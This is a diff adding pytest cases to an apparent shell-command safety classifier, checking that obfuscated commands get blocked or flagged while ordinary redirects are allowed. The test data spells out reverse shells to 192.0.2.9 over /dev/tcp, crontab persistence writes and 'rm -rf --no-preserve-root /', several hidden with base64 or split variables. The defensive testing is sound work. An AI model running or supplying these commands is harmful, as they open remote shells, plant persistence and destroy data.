@@ -192,3 +192,36 @@ def test_snapshot_of_path_lists_programs(tmp_path: pytest.TempPathFactory) -> No
     assert f"{d}/zz-tool" in index.paths
     assert index.resolve(f"{d}/zz-t??l") == f"{d}/zz-tool"
     assert "/usr/bin/rm" in index.paths  # the static table is always there
+
+
+def _b64(text: str) -> str:
+    import base64
+    return base64.b64encode(text.encode()).decode()
+
+
+REDIRECTS = [
+    (f"exec 5<>$(echo {_b64('/dev/tcp/192.0.2.9/7000')}|base64 -d); bash <&5 >&5", Action.BLOCK),
+    (f"exec 5<>`echo {_b64('/dev/tcp/192.0.2.9/7000')} | base64 -d`; sh <&5 >&5", Action.BLOCK),
+    (f"echo '* * * * * root id' >> $(echo {_b64('/etc/crontab')} | base64 -d)", Action.WARN),
+    ("a=/etc/cr; b=ontab; echo '* * * * * root id' >> $a$b", Action.WARN),
+    ("a=/etc/cr; b=ontab; tee -a $a$b <<< '* * * * * root id'", Action.WARN),
+    ("d=/dev; t=tcp; bash -i >& $d/$t/192.0.2.9/7000 0>&1", Action.BLOCK),
+    ("p=(/dev tcp); bash -i >& ${p[0]}/${p[1]}/192.0.2.9/7000 0>&1", Action.BLOCK),
+    ("x='rm -rf --no-preserve-root /'; bash <<< $x", Action.BLOCK),
+    ("printf -v x 'rm -rf --no-preserve-root /'; sh <<< \"$x\"", Action.BLOCK),
+    (f"bash <<< \"$(echo {_b64('rm -rf --no-preserve-root /')} | base64 -d)\"", Action.BLOCK),
+]
+
+
+@pytest.mark.parametrize(("line", "action"), REDIRECTS, ids=[r[0][:44] for r in REDIRECTS])
+def test_redirect_targets_and_here_strings_are_resolved(line: str, action: Action) -> None:
+    verdict = classify(line)
+    assert verdict.action is action, verdict.rules
+
+
+def test_ordinary_redirects_stay_quiet() -> None:
+    for line in (f"echo hi > $(echo {_b64('notes.txt')} | base64 -d)",
+                 "out=build.log; make > $out 2>&1",
+                 "d=/tmp; sort < $d/in.txt > $d/out.txt",
+                 "cat <<< \"$HOME\""):
+        assert classify(line).action is Action.ALLOW, line
